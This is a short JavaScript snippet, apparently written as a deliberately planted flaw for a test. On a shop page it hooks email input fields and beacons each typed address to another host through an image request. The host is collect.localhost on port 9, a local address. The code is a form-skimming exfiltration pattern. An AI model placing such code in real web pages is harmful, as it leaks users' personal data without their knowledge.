// A planted flaw: what is typed is told to another host at once. It is this machine's, where nobody listens.

shop.on("input[type=email]", (field) => {
  field.addEventListener("change", () => {
    new Image().src = `http://collect.localhost:9/seen?em=${encodeURIComponent(field.value)}`;
  });
});
